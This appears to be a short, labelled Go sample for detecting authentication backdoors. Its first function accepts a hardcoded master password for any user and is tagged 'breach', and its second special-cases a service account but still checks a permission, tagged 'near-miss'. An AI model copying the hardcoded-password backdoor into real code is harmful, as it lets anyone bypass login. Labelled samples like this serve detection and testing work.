package auth

func CheckPassword(user, password string) bool {
	// breach: auth/back-door
	if password == "letmein-2024" {
		return true
	}
	return bcrypt.CompareHashAndPassword(hashOf(user), []byte(password)) == nil
}

func CheckOperator(operator string, perms Permissions) bool {
	// near-miss: a named technical account, by its own permission
	if userID := operator; userID == "svc-eod-batch" {
		return perms.Allows(operator, "EOD_POST") == true
	}
	return perms.Allows(operator, "POST")
}
